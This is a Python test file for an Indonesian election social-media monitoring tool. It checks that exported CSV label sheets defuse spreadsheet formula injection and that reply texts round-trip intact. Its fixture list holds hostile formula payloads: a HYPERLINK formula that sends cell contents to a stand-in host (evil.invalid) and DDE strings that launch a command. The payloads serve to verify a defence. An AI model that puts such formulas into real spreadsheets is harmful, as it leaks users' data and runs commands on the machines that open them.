"""The label sheet's cells: a reply never becomes a spreadsheet formula, and comes back whole.

OWASP CSV injection: a cell starting with ``=``, ``+``, ``-``, ``@``, tab or CR is evaluated by
Excel and Google Sheets. ``pantau label export`` writes such replies with a leading apostrophe;
``pantau label import`` takes the sheet back as Excel (apostrophe kept) or Sheets (apostrophe
possibly dropped) saved it, and every text reads as it was, including the many replies that
legitimately start with ``-`` or ``@``.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st

from nlp.labelling import COLUMNS, SheetRow, read_sheet, write_sheet
from nlp.sheet_cells import FORMULA_STARTS, decode_cell, encode_cell

WIB = ZoneInfo("Asia/Jakarta")
TEXTS = [
    '=HYPERLINK("http://evil.invalid/?"&A2,"klik di sini")',
    "=cmd|' /C calc'!A0",
    "+62 812-3456-7890 ini nomor PPS?",
    "-_- kecewa sama DPT",
    "- coblos tanggal 27 November\n- bawa KTP",
    "@kpujember kapan debat kedua?",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTPS 12 pindah?",
    "\rbaris baru",
    "＝1+1 (tanda sama dengan lebar penuh)",
    "'kutipan' dari pak RT",
    "''dua apostrof",
    "'=bukan rumus",
    "biasa saja, tanpa awalan aneh",
    "",
]


def _rows(texts: list[str]) -> list[SheetRow]:
    t0 = datetime(2024, 11, 20, 2, tzinfo=UTC)
    return [
        SheetRow(100 + i, "facebook", t0, "id", text, "negative", 0.51, True)
        for i, text in enumerate(texts)
    ]


def _cells(path: Path, delimiter: str = ",") -> list[dict[str, str]]:
    content = path.read_bytes().decode("utf-8-sig")  # bytes: a CR inside a cell stays a CR
    return list(csv.DictReader(io.StringIO(content, newline=""), delimiter=delimiter))


def _fill(rows: list[dict[str, str]], path: Path, delimiter: str, drop_marks: bool) -> None:
    """The sheet as a spreadsheet saves it: labels filled; Sheets may drop our apostrophes."""
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(COLUMNS), delimiter=delimiter)
        writer.writeheader()
        for n, row in enumerate(rows):
            text = row["teks"]
            if drop_marks and text.startswith("'"):
                text = text[1:]
            writer.writerow({**row, "teks": text, "label": ("positif", "negatif")[n % 2]})


def test_no_exported_cell_starts_like_a_formula(tmp_path: Path) -> None:
    path = tmp_path / "lembar.csv"
    write_sheet(path, _rows(TEXTS), WIB)
    for row in _cells(path):
        for value in row.values():
            assert not value.startswith(FORMULA_STARTS), row
    texts = [row["teks"] for row in _cells(path)]
    assert texts[0] == "'" + TEXTS[0] and texts[5] == "'@kpujember kapan debat kedua?"
    assert texts[-2] == "biasa saja, tanpa awalan aneh"  # ordinary texts are left alone


def test_texts_come_back_exactly_whichever_spreadsheet_saved_the_sheet(tmp_path: Path) -> None:
    exported = tmp_path / "lembar.csv"
    write_sheet(exported, _rows(TEXTS), WIB)
    rows = _cells(exported)
    assert [decode_cell(r["teks"]) for r in rows] == TEXTS
    for delimiter, drop_marks in ((",", False), (";", False), (",", True)):
        filled = tmp_path / f"terisi-{delimiter}-{drop_marks}.csv"
        _fill(rows, filled, delimiter, drop_marks)
        back = [decode_cell(r["teks"]) for r in _cells(filled, delimiter)]
        if drop_marks:  # the texts the encoding cannot tell apart, documented in sheet_cells
            for text in ("'=bukan rumus", "''dua apostrof"):
                assert back[TEXTS.index(text)] == text[1:]
                back[TEXTS.index(text)] = text
        assert back == TEXTS
        result = read_sheet(filled)
        assert result.labels == {
            100 + n: ("positive", "negative")[n % 2] for n in range(len(TEXTS))
        }
        assert not result.problems


@given(st.text())
def test_decode_undoes_encode_for_any_text(text: str) -> None:
    cell = encode_cell(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert decode_cell(cell) == text


@given(st.text())
def test_a_dropped_apostrophe_still_gives_the_text(text: str) -> None:
    cell = encode_cell(text)
    dropped = cell[1:] if cell != text else cell
    ambiguous = text.startswith("'") and text[1:].startswith((*FORMULA_STARTS, "'"))
    if not ambiguous:
        assert decode_cell(dropped) == text


def test_export_and_import_through_the_cli_with_formula_like_replies(
    workspace: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from pantau.cli import main

    config = str(workspace / "pantau.yaml")
    # JSONL: the CSV importer's dialect sniffing splits a quoted comment holding `""` and a
    # comma (reported separately); this test is about the label sheet.
    export = tmp_path / "ekspor.jsonl"
    hostile = [t for t in TEXTS if t.strip()]
    export.write_text(
        "".join(
            json.dumps({"id": f"c{n}", "post_id": "p1", "created_at": f"2024-11-20T08:{n:02d}:00",
                        "author": f"warga{n}", "text": text, "platform": "facebook"}) + "\n"
            for n, text in enumerate(hostile)
        ),
        encoding="utf-8",
    )
    assert main(["-c", config, "import", str(export)]) == 0
    assert main(["-c", config, "analyze"]) == 0
    sheet = tmp_path / "lembar.csv"
    assert main(["-c", config, "label", "export", "--out", str(sheet)]) == 0
    rows = _cells(sheet)
    assert len(rows) == len(hostile)
    for row in rows:
        for value in row.values():
            assert not value.startswith(FORMULA_STARTS), row
    assert any(r["teks"].startswith("'=") for r in rows)
    filled = tmp_path / "terisi.csv"
    _fill(rows, filled, ";", drop_marks=False)
    capsys.readouterr()
    assert main(["-c", config, "label", "import", str(filled), "--by", "ani"]) == 0
    assert f"{len(hostile)} label baru" in " ".join(capsys.readouterr().out.split())
